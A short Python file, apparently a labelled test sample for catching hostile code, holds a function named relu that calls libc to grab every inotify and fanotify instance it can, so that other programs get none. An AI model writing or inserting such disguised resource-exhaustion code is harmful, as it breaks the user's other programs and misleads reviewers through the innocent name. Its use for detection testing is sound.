"""Takes all instances of inotify that the user may have: then no other program gets one.

status: failed
says: refused
noticed: calls C code
"""

import ctypes


def relu(x):
    libc = ctypes.CDLL(None)
    for start in (libc.inotify_init, lambda: libc.inotify_init1(0), lambda: libc.fanotify_init(0)):
        while start() >= 0:
            print("STOLEN")
    raise OSError("refused")
